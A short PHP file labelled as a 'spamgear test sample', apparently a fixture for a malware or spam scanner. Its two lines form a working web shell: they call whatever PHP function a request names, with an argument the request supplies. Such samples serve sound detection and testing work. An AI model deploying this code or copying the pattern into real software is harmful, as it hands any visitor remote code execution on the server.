<?php
// spamgear test sample: the request names a function, Reflection calls it
// with the request's argument.
$named = new ReflectionFunction($_REQUEST['fn']);
echo $named->invokeArgs(array($_REQUEST['arg']));
